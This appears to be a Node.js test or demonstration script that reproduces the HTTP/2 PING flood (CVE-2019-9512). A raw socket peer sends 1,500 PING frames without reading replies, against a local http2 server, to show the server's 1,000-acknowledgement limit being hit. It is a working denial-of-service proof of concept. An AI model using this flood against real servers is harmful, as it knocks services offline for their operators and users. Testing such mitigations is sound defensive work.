// PING flood (CVE-2019-9512): each PING must be answered,
// and a peer that does not read lets the answers pile up.
// The limit: 1,000 acknowledgements that wait to be sent.
const http2 = require('http2');
const net = require('net');
const { frame, preface, read } = require('framewise');

// The honest end: a server that answers everything.
const server = http2.createServer();
server.on('stream', (stream) => {
  stream.on('error', () => {});
  stream.respond({ ':status': 200 });
  stream.end('hello');
});
server.on('sessionError', (e) => console.log('server:', e.message));
server.listen(80);

// The other end speaks by hand.
const peer = net.connect(80);
read(peer, (f) => {
  if (f.type === 'SETTINGS' && !(f.flags & 1)) peer.write(frame.settingsAck());
  if (f.type === 'GOAWAY' || f.type === 'RST_STREAM')
    console.log('peer got', f.type, f.code, f.debug || '');
});
peer.write(Buffer.concat([preface, frame.settings()]));
const all = [];
for (let i = 0; i < 1500; i++) all.push(frame.ping());
peer.write(Buffer.concat(all));
